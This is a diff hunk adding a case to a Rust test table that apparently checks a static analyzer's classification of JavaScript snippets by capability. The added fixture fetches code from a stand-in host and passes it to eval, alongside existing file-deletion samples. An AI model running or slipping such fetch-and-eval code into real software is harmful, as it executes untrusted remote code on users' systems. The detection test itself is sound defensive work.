@@ -255,6 +255,13 @@ fn javascript_is_followed_through_modules_templates_and_callbacks() {
             ),
             ("require('fs')['unlink' + 'Sync']('a')", &["fs.delete a"]),
             (
+                "fetch('https://h.example/x').then(r => r.text()).then(eval)",
+                &[
+                    "net.fetch https://h.example/x",
+                    "exec.remote_code https://h.example/x",
+                ],
+            ),
+            (
                 "['a', 'b'].forEach(f => require('fs').unlinkSync(f))",
                 &["fs.delete a|b"],
             ),
